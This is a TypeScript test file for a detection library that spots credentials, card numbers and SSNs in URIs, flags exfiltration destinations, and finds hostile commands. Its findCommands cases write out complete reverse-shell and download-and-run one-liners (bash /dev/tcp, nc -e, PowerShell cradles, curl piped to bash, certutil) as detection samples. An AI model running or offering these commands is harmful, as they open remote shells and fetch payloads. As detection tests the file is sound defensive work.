import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  DestinationMatcher,
  normaliseName,
  parseDestinationList,
} from '../../src/detect/content-patterns.js';
import { BUILTIN_DESTINATIONS, BUILTIN_DESTINATIONS_TEXT } from '../../src/detect/suspicious-destinations.js';
import {
  blobKind,
  cardDigits,
  findCommands,
  findSensitive,
  isCredentialKind,
  jwtHeaderOk,
  luhnValid,
  MASK_STARS_MAX,
  mask,
  percentDecode,
  plausibleIin,
  type SensitiveRules,
  shannonEntropy,
  validSsn,
} from '../../src/shared/sensitive-patterns.js';

const RULES: SensitiveRules = { blobs: { minLength: 128, minBase64Entropy: 4.8, minHexEntropy: 3.5 } };
const kinds = (text: string, rules: SensitiveRules = RULES): string[] =>
  findSensitive(text, rules).map((m) => m.kind);

/** Reference Luhn: sum of digits of doubled every-second digit from the right. */
function referenceLuhn(digits: string): boolean {
  const ds = [...digits].reverse().map(Number);
  const sum = ds.reduce((s, d, k) => s + (k % 2 === 1 ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][d]! : d), 0);
  return sum % 10 === 0;
}

/** Appends the Luhn check digit. */
function withCheckDigit(body: string): string {
  for (let d = 0; d <= 9; d++) if (referenceLuhn(body + d)) return body + d;
  throw new Error('unreachable');
}

const jwtOf = (header: object, payload: object, sig = 'c2lnbmF0dXJlLWJ5dGVz'): string =>
  `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from(JSON.stringify(payload)).toString('base64url')}.${sig}`;

/** Deterministic pseudo-random bytes (the blob tests need high-entropy text). */
function bytes(n: number, seed = 7): Buffer {
  let a = seed >>> 0;
  const out = Buffer.alloc(n);
  for (let i = 0; i < n; i++) {
    a = (Math.imul(a, 1_103_515_245) + 12_345) >>> 0;
    out[i] = a >>> 24;
  }
  return out;
}

describe('mask', () => {
  it('keeps only the last four characters', () => {
    expect(mask('4111111111111111')).toBe('************1111');
    expect(mask('123456789')).toBe('*****6789');
    expect(mask('12345678')).toBe('********');
    expect(mask('')).toBe('');
    expect(mask(`${'x'.repeat(500)}WXYZ`)).toBe(`${'*'.repeat(MASK_STARS_MAX)}WXYZ`);
  });

  it('never shows more than the last four characters of the value (property)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (value) => {
        const m = mask(value);
        const shown = m.replace(/^\*+/, '');
        expect(shown.length).toBeLessThanOrEqual(4);
        expect(value.endsWith(shown)).toBe(true);
        // Only stars before the kept suffix, and nothing at all kept of a short value.
        expect(m.slice(0, m.length - shown.length)).toMatch(/^\**$/);
        if (value.length <= 8) expect(shown).toBe('');
      }),
    );
  });

  it('findSensitive never returns more than the last four characters of what it found (property)', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^4[0-9]{14}$/), fc.string({ maxLength: 20 }), (body, noise) => {
        const card = withCheckDigit(body);
        const found = findSensitive(`/p?x=${encodeURIComponent(noise)}&cc=${card}`, RULES).filter(
          (m) => m.kind === 'card',
        );
        for (const m of found) {
          expect(m.masked.replace(/\*/g, '')).toBe(card.slice(-4));
          expect(m.masked).not.toContain(card.slice(0, 12));
        }
      }),
    );
  });
});

describe('Luhn and IIN', () => {
  it('agrees with a reference implementation (property)', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[0-9]{1,25}$/), (digits) => {
        expect(luhnValid(digits)).toBe(referenceLuhn(digits));
      }),
    );
  });

  it('accepts every body with its check digit and rejects every other last digit (property)', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[0-9]{12,18}$/), fc.integer({ min: 1, max: 9 }), (body, delta) => {
        const good = withCheckDigit(body);
        expect(luhnValid(good)).toBe(true);
        const bad = body + String((Number(good.slice(-1)) + delta) % 10);
        expect(luhnValid(bad)).toBe(false);
      }),
    );
  });

  it('rejects non-digits and the empty string', () => {
    expect(luhnValid('')).toBe(false);
    expect(luhnValid('4111-1111')).toBe(false);
    expect(luhnValid('79927398713')).toBe(true);
  });

  it('knows the brands and lengths', () => {
    expect(plausibleIin('4111111111111111')).toBe(true); // Visa 16
    expect(plausibleIin('4222222222222')).toBe(true); // Visa 13
    expect(plausibleIin('41111111111111')).toBe(false); // Visa 14
    expect(plausibleIin('5500000000000004')).toBe(true); // Mastercard
    expect(plausibleIin('2221000000000009')).toBe(true); // Mastercard 2-series
    expect(plausibleIin('378282246310005')).toBe(true); // Amex
    expect(plausibleIin('6011111111111117')).toBe(true); // Discover
    expect(plausibleIin('3530111333300000')).toBe(true); // JCB
    expect(plausibleIin('30569309025904')).toBe(true); // Diners
    expect(plausibleIin('6200000000000005')).toBe(true); // UnionPay
    expect(plausibleIin('2200000000000004')).toBe(true); // Mir
    expect(plausibleIin('5018000000000009')).toBe(true); // Maestro
    expect(plausibleIin('1710230400123')).toBe(false); // a millisecond timestamp
    expect(plausibleIin('9111111111111111')).toBe(false);
    expect(plausibleIin('411111111111')).toBe(false); // too short
    expect(plausibleIin('41111111111111111111')).toBe(false); // too long
    expect(plausibleIin('4111x11111111111')).toBe(false);
  });

  it('cardDigits strips separators and checks both', () => {
    expect(cardDigits('4111 1111 1111 1111')).toBe('4111111111111111');
    expect(cardDigits('4111-1111-1111-1112')).toBeUndefined();
    expect(cardDigits('1111111111111117')).toBeUndefined();
  });
});

describe('findSensitive', () => {
  it('finds card numbers with and without separators, masked as digits', () => {
    expect(findSensitive('/pay?cc=4111111111111111&x=1', RULES)).toMatchObject([
      { kind: 'card', masked: '************1111', length: 16 },
    ]);
    expect(kinds('/pay?cc=4111 1111 1111 1111')).toEqual(['card']);
    expect(kinds('/pay?cc=4111-1111-1111-1111')).toEqual(['card']);
    expect(kinds('amex 3782-822463-10005 end')).toEqual(['card']);
    expect(kinds('4111111111111111.exfil.example.com')).toEqual(['card']);
  });

  it('ignores card-like numbers that fail Luhn, IIN or boundaries', () => {
    expect(kinds('/pay?cc=4111111111111112')).toEqual([]);
    expect(kinds('/t?ts=1710230400123')).toEqual([]);
    expect(kinds('/id/a4111111111111111')).toEqual([]); // inside a longer token
    expect(kinds('/id/41111111111111111111111')).toEqual([]); // a longer number
    expect(kinds('/x?a=4111 1111-1111 1111')).toEqual([]); // mixed separators
    expect(kinds('/x?a=4111111111111111-2')).toEqual([]); // continues
  });

  it('finds SSNs outside the invalid ranges', () => {
    expect(findSensitive('/f?ssn=512-34-6789', RULES)).toMatchObject([
      { kind: 'ssn', masked: '*****6789', length: 9 },
    ]);
    for (const bad of [
      '000-12-3456',
      '666-12-3456',
      '912-34-5678',
      '512-00-6789',
      '512-34-0000',
      '078-05-1120',
    ]) {
      expect(kinds(`/f?ssn=${bad}`)).toEqual([]);
    }
    expect(kinds('/d/2024-03-1234')).toEqual([]);
    expect(kinds('/x?p=1-512-34-6789')).toEqual([]);
    expect(validSsn('512', '34', '6789')).toBe(true);
  });

  it('finds API keys and tokens', () => {
    expect(kinds('/s3?k=AKIAIOSFODNN7EXAMPLE')).toEqual(['aws-access-key']);
    expect(kinds('/s3?k=ASIAY34FZKBOKMUTVV7A&x')).toEqual(['aws-access-key']);
    expect(kinds(`/gh?t=ghp_${'A1b2'.repeat(9)}`)).toEqual(['github-token']);
    expect(kinds(`/gh?t=github_pat_11ABCDEFG0123456789_${'a'.repeat(59)}`)).toEqual(['github-token']);
    expect(kinds('/s?t=xoxb-1234567890-abcdefghij')).toEqual(['slack-token']);
    expect(kinds(`/maps?key=AIza${'Sy'.repeat(17)}X`)).toEqual(['google-api-key']);
    expect(kinds(`/pay?k=sk_live_${'4eC39HqLyjWDarjtT1zdp7dc'}`)).toEqual(['stripe-key']);
    expect(kinds('/x?AKIAIOSFODNN7EXAMPLEX')).toEqual([]); // too long for an access key id
  });

  it('finds JWTs whose header decodes to JSON with alg', () => {
    const jwt = jwtOf({ alg: 'HS256', typ: 'JWT' }, { sub: 'alice' });
    const found = findSensitive(`/cb?token=${jwt}`, RULES);
    expect(found).toMatchObject([{ kind: 'jwt', masked: mask(jwt), length: jwt.length }]);
    expect(kinds(`/cb?token=${jwtOf({ typ: 'JWT' }, { sub: 'a' })}`)).toEqual([]);
    expect(jwtHeaderOk('eyJub3QganNvbg.eyJhIjoxfQ.sig')).toBe(false);
    expect(jwtHeaderOk('.x.y')).toBe(false);
    expect(jwtHeaderOk(`${Buffer.from('"alg"').toString('base64url')}.x.y`)).toBe(false);
    expect(jwtHeaderOk(`${Buffer.from('null').toString('base64url')}.x.y`)).toBe(false);
  });

  it('finds private-key headers, percent-encoded too', () => {
    expect(kinds(percentDecode('/u?k=-----BEGIN%20RSA%20PRIVATE%20KEY-----%0AMIIE'))).toEqual([
      'private-key',
    ]);
    expect(kinds('/u?k=-----BEGIN+OPENSSH+PRIVATE+KEY-----')).toEqual(['private-key']);
    expect(kinds('-----BEGIN PRIVATE KEY-----')).toEqual(['private-key']);
    expect(kinds('-----BEGIN PUBLIC KEY-----')).toEqual([]);
  });

  it('finds long high-entropy base64 and hex blobs, not session ids, words or numbers', () => {
    const b64 = bytes(120).toString('base64');
    expect(kinds(`/up?d=${b64}`)).toEqual(['base64-blob']);
    const hex = bytes(80).toString('hex');
    expect(kinds(`/up?d=${hex}`)).toEqual(['hex-blob']);
    expect(kinds(`/s?sid=${bytes(32).toString('hex')}`)).toEqual([]); // a 64-hex session id
    expect(kinds(`/s?sid=${bytes(63).toString('hex')}`)).toEqual([]); // 126 hex: below the minimum
    expect(kinds(`/s?sid=${bytes(64).toString('hex')}`)).toEqual(['hex-blob']); // 128: at it
    expect(kinds(`/s?n=${'1234567890'.repeat(20)}`)).toEqual([]); // digits only: low entropy
    expect(kinds(`/${'abcdefghij'.repeat(20)}`)).toEqual([]); // no digits or upper case
    expect(kinds(`/${'Ab1'.repeat(60)}`)).toEqual([]); // low entropy
    expect(kinds(`/x?d=${b64}`, { blobs: undefined })).toEqual([]);
    expect(blobKind('ab', { minLength: 128, minBase64Entropy: 0, minHexEntropy: 0 })).toBeUndefined();
  });

  it('does not report a key again as a blob', () => {
    const pat = `github_pat_${bytes(90).toString('base64').replace(/[+/=]/g, '').slice(0, 82)}`;
    const rules: SensitiveRules = { blobs: { minLength: 64, minBase64Entropy: 4, minHexEntropy: 3 } };
    expect(kinds(`/x?t=${pat}`, rules)).toEqual(['github-token']);
  });

  it('tells credentials from data', () => {
    expect(isCredentialKind('aws-access-key')).toBe(true);
    expect(isCredentialKind('jwt')).toBe(true);
    expect(isCredentialKind('card')).toBe(false);
    expect(isCredentialKind('hex-blob')).toBe(false);
  });
});

describe('percentDecode and entropy', () => {
  it('undoes percent escapes, double encoding and bad UTF-8 without throwing', () => {
    expect(percentDecode('a%20b')).toBe('a b');
    expect(percentDecode('a%2520b')).toBe('a b');
    expect(percentDecode('%ff%fe')).toBe('\u00ff\u00fe');
    expect(percentDecode('100%')).toBe('100%');
    expect(percentDecode('plain')).toBe('plain');
    expect(percentDecode('a+b')).toBe('a+b');
  });

  it('never throws on any text (property)', () => {
    fc.assert(fc.property(fc.string({ maxLength: 200 }), (s) => void percentDecode(s)));
  });

  it('measures Shannon entropy', () => {
    expect(shannonEntropy('')).toBe(0);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abab')).toBeCloseTo(1);
    expect(shannonEntropy('0123456789abcdef')).toBeCloseTo(4);
  });
});

describe('findCommands', () => {
  const cases: [string, string][] = [
    ['/cgi-bin/x?c=bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev-tcp'],
    ['/x?c=nc -e /bin/sh 10.0.0.1 4444', 'netcat-exec'],
    ['/x?c=ncat.exe 10.0.0.1 4444 -e cmd.exe', 'netcat-exec'],
    ['/x?c=rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f', 'mkfifo-shell'],
    ["/x?c=python3 -c 'import socket,subprocess,os;s=socket.socket()'", 'script-reverse-shell'],
    ['/x?c=perl -e \'use Socket;$i="10.0.0.1"\'', 'script-reverse-shell'],
    ['/x?c=php -r \'$sock=fsockopen("10.0.0.1",4444);\'', 'script-reverse-shell'],
    ['/x?c=powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'powershell-encoded'],
    ["IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')", 'powershell-cradle'],
    ["(New-Object System.Net.WebClient).DownloadFile('http://x/a.exe','a.exe')", 'powershell-cradle'],
    ['iwr http://x/a.ps1 -UseBasicParsing | iex', 'powershell-cradle'],
    ['/x?c=curl -s http://10.0.0.1/a.sh | bash', 'download-pipe-shell'],
    ['/x?c=wget -qO- http://10.0.0.1/a.sh | sudo sh', 'download-pipe-shell'],
    ['/x?c=wget http://10.0.0.1/x -O /tmp/x && chmod +x /tmp/x', 'download-chmod'],
    ['/x?c=curl -o /tmp/x http://a/x; chmod 755 /tmp/x', 'download-chmod'],
    ['certutil.exe -urlcache -split -f http://10.0.0.1/a.exe a.exe', 'certutil-download'],
  ];
  for (const [text, kind] of cases) {
    it(`finds ${kind} in ${text.slice(0, 40)}`, () => {
      expect(findCommands(text).map((m) => m.kind)).toContain(kind);
    });
  }

  it('matches after percent decoding and with + as a space', () => {
    const uri = '/x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4444';
    expect(findCommands(uri)).toEqual([]);
    expect(findCommands(percentDecode(uri))).toMatchObject([
      { kind: 'dev-tcp', snippet: '/dev/tcp/10.0.0.1/4444' },
    ]);
    expect(findCommands('/x?c=curl+http://a/b.sh+|+sh').map((m) => m.kind)).toEqual(['download-pipe-shell']);
  });

  it('leaves ordinary URIs and user agents alone', () => {
    for (const text of [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0',
      'curl/8.4.0',
      'Wget/1.21.2',
      'PowerShell/7.4 (Windows)',
      '/download/nc-1.10.tar.gz',
      '/docs/python-c-api/index.html',
      '/search?q=wget+vs+curl',
    ]) {
      expect(findCommands(text)).toEqual([]);
    }
  });

  it('bounds the snippet', () => {
    const m = findCommands(`curl http://x/${'a'.repeat(180)} | sh`);
    expect(m).toHaveLength(1);
    expect(m[0]!.snippet.length).toBeLessThanOrEqual(120);
  });
});

describe('destination lists', () => {
  it('parses entries, categories, comments and path entries', () => {
    const list = parseDestinationList(
      '# comment\n\nEvil.Example  c2 # trailing\n*.tunnel.test\n.paste.test paste\ndiscord.com/api/webhooks webhook\r\n',
      'list',
    );
    expect(list).toEqual([
      { entry: 'evil.example', category: 'c2' },
      { entry: 'tunnel.test', category: 'custom' },
      { entry: 'paste.test', category: 'paste' },
      { entry: 'discord.com/api/webhooks', category: 'webhook' },
    ]);
  });

  it('refuses bad lines, naming the line', () => {
    expect(() => parseDestinationList('ok.test\nbad domain name here', 'f.txt')).toThrow(
      /f\.txt:2: expected an entry/,
    );
    expect(() => parseDestinationList('exa$mple', 'f')).toThrow(/not a domain/);
    expect(parseDestinationList('exa mple', 'f')).toEqual([{ entry: 'exa', category: 'mple' }]);
    expect(() => parseDestinationList('-bad.test', 'f')).toThrow(/not a domain/);
    expect(() => parseDestinationList('a..b', 'f')).toThrow(/not a domain/);
    expect(() => parseDestinationList('x.test/path with more', 'f')).toThrow(/expected/);
    expect(() => parseDestinationList('x.test/\u00e9', 'f')).toThrow(/not a path/);
    expect(() => parseDestinationList('x.test Bad_Cat', 'f')).toThrow(/category/);
  });

  it('matches by suffix on label boundaries, case-insensitively', () => {
    const m = new DestinationMatcher(BUILTIN_DESTINATIONS);
    expect(m.matchName('pastebin.com')?.entry).toBe('pastebin.com');
    expect(m.matchName('PasteBin.COM.')?.entry).toBe('pastebin.com');
    expect(m.matchName('abc123.ngrok-free.app')?.category).toBe('tunnel');
    expect(m.matchName('x.y.trycloudflare.com:443')?.entry).toBe('trycloudflare.com');
    expect(m.matchName('freestuff.tk')?.category).toBe('free-tld');
    expect(m.matchName('notpastebin.com')).toBeUndefined();
    expect(m.matchName('pastebin.com.evil.test')).toBeUndefined();
    expect(m.matchName('stock.market')).toBeUndefined();
    expect(m.matchName('')).toBeUndefined();
    expect(m.matchName('[2001:db8::1]:80')).toBeUndefined();
    // Path entries need the URI: a name alone never matches them.
    expect(m.matchName('discord.com')).toBeUndefined();
    expect(m.matchUrl('discord.com', '/api/webhooks/123/abc')?.category).toBe('webhook');
    expect(m.matchUrl('cdn.discordapp.com', '/API/Webhooks/1')?.entry).toBe('discordapp.com/api/webhooks');
    expect(m.matchUrl('discord.com', '/channels/1')).toBeUndefined();
    expect(m.matchUrl('pastebin.com', '/raw/x')?.entry).toBe('pastebin.com');
    expect(m.matchUrl('example.com', '/api/webhooks')).toBeUndefined();
    expect(m.matchUrl('', '/')).toBeUndefined();
    expect(
      new DestinationMatcher([{ entry: 'a.test', category: 'x' }]).matchUrl('b.test', '/'),
    ).toBeUndefined();
    // The first of duplicate entries wins.
    const dup = new DestinationMatcher([
      { entry: 'a.test', category: 'one' },
      { entry: 'a.test', category: 'two' },
    ]);
    expect(dup.matchName('a.test')?.category).toBe('one');
  });

  it('has a built-in list that parses and covers the families', () => {
    const categories = new Set(BUILTIN_DESTINATIONS.map((e) => e.category));
    expect([...categories].sort()).toEqual(['file-sharing', 'free-tld', 'paste', 'tunnel', 'webhook']);
    expect(parseDestinationList(BUILTIN_DESTINATIONS_TEXT, 'x')).toEqual(BUILTIN_DESTINATIONS);
    for (const e of [
      'tk',
      'ml',
      'ga',
      'cf',
      'gq',
      'pastebin.com',
      'ngrok.io',
      'ngrok-free.app',
      'serveo.net',
    ]) {
      expect(BUILTIN_DESTINATIONS.some((d) => d.entry === e)).toBe(true);
    }
  });

  it('normalises names', () => {
    expect(normaliseName(' Example.COM.:8080 ')).toBe('example.com');
    expect(normaliseName('[::1]')).toBe('');
  });
});
